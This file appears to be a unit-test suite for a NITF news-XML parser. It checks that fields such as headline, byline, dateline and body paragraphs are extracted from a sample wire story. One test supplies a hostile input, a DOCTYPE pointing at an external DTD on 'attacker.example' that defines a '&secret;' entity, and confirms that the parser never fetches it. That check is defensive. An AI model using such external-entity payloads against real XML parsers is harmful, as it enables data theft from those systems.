import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { normalize } from './normalize';

const SAMPLES = join(__dirname, '../../../fixtures/samples');
const nitf = (xml: string) => normalize(Buffer.from(xml, 'utf8'));

describe('NITF 3.x', () => {
  it('reads head, body.head, body.content and body.end into the story', () => {
    const [story] = normalize(readFileSync(join(SAMPLES, 'iran-talks.nitf.xml')));
    expect(story).toMatchObject({
      format: 'nitf',
      guid: 'nwx-2024-0523-0042',
      version: 2,
      source: 'nwx',
      urgency: 3,
      language: 'en',
      versionCreated: '2024-05-23T10:15:00.000Z',
      headline: 'Iran and IAEA agree on new inspection round – officials',
      subheadline: 'Talks in Vienna end with a timetable',
      byline: 'Sara Kamali, Senior Diplomatic Correspondent',
      authors: [{ name: 'Sara Kamali', title: 'Senior Diplomatic Correspondent' }],
      dateline: { place: 'VIENNA', date: 'May 23', agency: 'NWX' },
      slug: 'IRAN-NUCLEAR/IAEA',
      editorNote: 'Corrects the date of the next round in paragraph 3',
      keywords: ['Iran', 'IAEA'],
      captions: [{ text: "Delegates arrive at the agency's headquarters.", credit: 'NWX Photo' }],
      rights: { copyrightHolder: 'Newswire Example Agency' },
    });
    expect(story.body).toEqual([
      'VIENNA, May 23 (NWX) - Iran and the International Atomic Energy Agency agreed on Thursday to a new round of inspections, officials from both sides said.',
      'The agreement follows two days of talks in the Austrian capital.',
      'The next round is due to begin on June 10, the agency said.',
      'Reporting by Sara Kamali; editing by Omid Rahimi',
    ]);
  });

  it('takes the head title when there is no hl1, and a print byline over a normalized one', () => {
    const [story] = nitf(
      `<nitf><head><title>Markets close higher</title></head><body><body.head>` +
        `<byline class="print_byline">By JANE ROE</byline><byline class="normalized_byline">Roe, Jane</byline>` +
        `</body.head><body.content><block class="lead_paragraph"><p>Stocks rose.</p></block>` +
        `<block class="full_text"><p>Stocks rose.</p><p>Bonds fell.</p></block></body.content></body></nitf>`,
    );
    expect(story).toMatchObject({ headline: 'Markets close higher', byline: 'JANE ROE' });
    // The lead_paragraph block repeats the start of full_text: read once.
    expect(story.body).toEqual(['Stocks rose.', 'Bonds fell.']);
  });

  it('reads a document whose DOCTYPE names an external DTD, which is never fetched', () => {
    const [story] = nitf(
      `<?xml version="1.0"?>\n<!DOCTYPE nitf SYSTEM "http://attacker.example/defines-secret.dtd">\n` +
        `<nitf><body><body.head><hedline><hl1>Held: &secret;</hl1></hedline></body.head>` +
        `<body.content><p>Text.</p></body.content></body></nitf>`,
    );
    // An entity only the DTD could define stays as written: nothing was loaded to expand it.
    expect(story.headline).toBe('Held: &secret;');
  });
});
